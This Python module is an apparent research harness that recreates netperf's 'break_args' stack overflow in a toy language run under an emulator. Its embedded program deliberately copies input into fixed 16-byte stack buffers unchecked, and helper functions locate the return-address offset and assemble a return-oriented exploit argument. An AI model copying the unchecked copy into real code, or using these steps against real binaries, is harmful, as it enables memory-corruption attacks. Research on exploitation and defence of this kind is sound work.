"""The netperf case study (Sec. VI-C substitute).

``netperf 2.6.0``'s client crashes on ``-a``: ``break_args`` copies the
option argument into two fixed stack buffers with no length check
(Fig. 7).  This module reproduces the same program shape in MC: a
bandwidth-test client whose argument parser contains the verbatim
``break_args`` bug, plus enough protocol scaffolding to give the binary
realistic bulk.

One documented deviation (see EXPERIMENTS.md): the original bug is a
NUL-terminated string copy, which cannot carry the zero bytes every
64-bit code address contains; real exploits work around this with
leading-arg tricks the paper does not detail.  Our ``break_args``
copies a length-prefixed argument (memcpy-shaped, the same CWE-121
stack overflow), so payload bytes are delivered verbatim and the
end-to-end exploit is honestly executable.

The attacker's input is the ``optarg`` global (stand-in for argv
memory); :func:`netperf_image` compiles the client, and
:func:`run_netperf_with_arg` runs it with attacker-chosen bytes.
"""

from __future__ import annotations

from typing import Optional, Tuple

from ..compiler.link import LinkedProgram
from ..emulator.cpu import Emulator
from ..emulator.syscalls import SyscallEvent
from ..obfuscation.pipeline import NONE, ObfuscationConfig, build_program
from .programs import BenchProgram

NETPERF_SOURCE = """
// netperf-like bandwidth test client with the break_args overflow.
u8 optarg[4096];
u64 optarg_len = 0;
u64 test_duration = 10;
u64 send_size = 1024;
u64 recv_size = 1024;
u64 local_rate = 0;
u64 remote_rate = 0;

// Fig. 7: copy the two comma-separated halves of optarg into fixed
// buffers with no bounds check.  (Length-prefixed copy; see module doc.)
u64 break_args(u8* s, u64 n, u8* a1, u8* a2) {
    u64 comma = n;
    for (u64 i = 0; i < n; i++) {
        if (s[i] == ',') { comma = i; break; }
    }
    u64 j = 0;
    for (u64 i = 0; i < comma; i++) {       // fills a1 ... and beyond
        a1[j] = s[i];
        j++;
    }
    j = 0;
    for (u64 i = comma + 1; i < n; i++) {   // fills a2 ... and beyond
        a2[j] = s[i];
        j++;
    }
    return comma;
}

u64 parse_rate(u8* s) {
    u64 v = 0;
    u64 i = 0;
    while (s[i] >= '0' && s[i] <= '9') {
        v = v * 10 + (s[i] - '0');
        i++;
    }
    return v;
}

u64 checksum_block(u8* block, u64 n) {
    u64 sum = 0;
    for (u64 i = 0; i < n; i++) {
        sum = (sum << 1) ^ block[i] ^ (sum >> 13);
    }
    return sum;
}

u64 simulate_burst(u64 size, u64 rate) {
    u8 packet[64];
    u64 sent = 0;
    for (u64 i = 0; i < size / 64; i++) {
        for (u64 b = 0; b < 64; b++) { packet[b] = (i * 7 + b) % 256; }
        sent += checksum_block(packet, 64) % 1500;
        if (rate != 0 && sent > rate * 100) { break; }
    }
    return sent;
}

u64 handle_option_a() {
    u8 arg2[16];   // stack buffers, as in netperf's break_args callers
    u8 arg1[16];
    break_args(optarg, optarg_len, arg1, arg2);
    local_rate = parse_rate(arg1);
    remote_rate = parse_rate(arg2);
    return 0;
}

u64 run_test() {
    u64 total = 0;
    for (u64 t = 0; t < test_duration; t++) {
        total += simulate_burst(send_size, local_rate);
        total += simulate_burst(recv_size, remote_rate) / 2;
    }
    return total;
}

u64 main() {
    if (optarg_len != 0) { handle_option_a(); }
    u64 throughput = run_test();
    print(local_rate);
    print(remote_rate);
    print(throughput % 1000000007);
    return 0;
}
"""

NETPERF_PROGRAM = BenchProgram(
    name="netperf",
    description="bandwidth-test client with the break_args stack overflow",
    source=NETPERF_SOURCE,
)


def netperf_image(
    config: ObfuscationConfig = NONE, *, seed: int = 0
) -> LinkedProgram:
    """Compile the netperf-like client under an obfuscation config."""
    return build_program(NETPERF_SOURCE, config, seed=seed)


def run_netperf_with_arg(
    linked: LinkedProgram, arg: bytes, *, step_limit: int = 40_000_000
) -> Tuple[Emulator, Optional[SyscallEvent]]:
    """Run the client with attacker-controlled ``-a`` argument bytes.

    Plants ``arg`` into the ``optarg`` global and its length into
    ``optarg_len`` before execution (standing in for the kernel copying
    argv), then runs to completion, crash, or attack syscall.
    """
    emu = Emulator(linked.image, stop_on_attack=True, step_limit=step_limit)
    optarg_addr = linked.image.symbol("optarg")
    len_addr = linked.image.symbol("optarg_len")
    emu.memory.write(optarg_addr, arg[:4096])
    emu.memory.write_u64(len_addr, len(arg))
    event = emu.run_catching_attack()
    return emu, event


def locate_overflow() -> "List[OverflowFinding]":
    """Statically locate the ``break_args`` bug in the client source.

    Runs the abstract-interpretation overflow checker
    (:func:`repro.staticanalysis.check_module_source`) over the
    compiled IR of :data:`NETPERF_SOURCE`.  No function names, buffer
    names, or addresses are special-cased — the checker flags the two
    16-byte stack buffers on its own, which is how an analyst knows
    where to aim :func:`find_overflow_offset`'s cyclic pattern.
    """
    from ..staticanalysis import check_module_source

    return check_module_source(NETPERF_SOURCE)


def find_overflow_offset(linked: LinkedProgram, *, max_len: int = 2400) -> Optional[int]:
    """Classic cyclic-pattern offset discovery.

    Feeds a de Bruijn-ish pattern through the overflow and reads which
    pattern word landed in the saved return address when the victim
    crashed, yielding the padding the exploit needs before its first
    gadget address.  Works on *any* obfuscated build — no layout
    knowledge is assumed, exactly like attacking a stripped binary.
    """
    pattern = bytearray()
    offset_of_counter = {}
    counter = 0
    while len(pattern) < max_len:
        if counter & 0xFF == ord(","):
            counter += 1  # a comma byte would split the argument early
        offset_of_counter[counter] = len(pattern)
        pattern += (0x1000000000000 + counter).to_bytes(8, "little")
        counter += 1
    emu = Emulator(linked.image, stop_on_attack=True, step_limit=40_000_000)
    optarg_addr = linked.image.symbol("optarg")
    len_addr = linked.image.symbol("optarg_len")
    emu.memory.write(optarg_addr, bytes(pattern))
    emu.memory.write_u64(len_addr, len(pattern))
    try:
        emu.run()
    except Exception:
        # The crash leaves rip at the pattern word the smashed return
        # address popped; a clean exit means the overflow never fired.
        rip = emu.cpu.rip
        if rip >> 24 == 0x1000000000000 >> 24:
            return offset_of_counter.get(rip & 0xFFFFFF)
    return None


def build_exploit_argument(
    linked: LinkedProgram, payload_bytes: bytes, *, offset: Optional[int] = None
) -> Optional[bytes]:
    """Pad a planner payload into a complete ``-a`` argument.

    ``offset`` (from :func:`find_overflow_offset`) positions the
    payload's first gadget address exactly over the saved return
    address; the padding word just below it (the saved frame pointer)
    is pointed at mapped scratch memory so frame-relative junk accesses
    in the chain cannot fault.
    """
    if offset is None:
        offset = find_overflow_offset(linked)
    if offset is None or offset < 8:
        return None
    padding = bytearray(b"A" * offset)
    scratch = linked.image.symbols.get("__scratch", 0x600000)
    padding[offset - 8 : offset] = (scratch + 0x400).to_bytes(8, "little")
    argument = bytes(padding) + payload_bytes
    if len(argument) > 4096:
        return None
    return argument
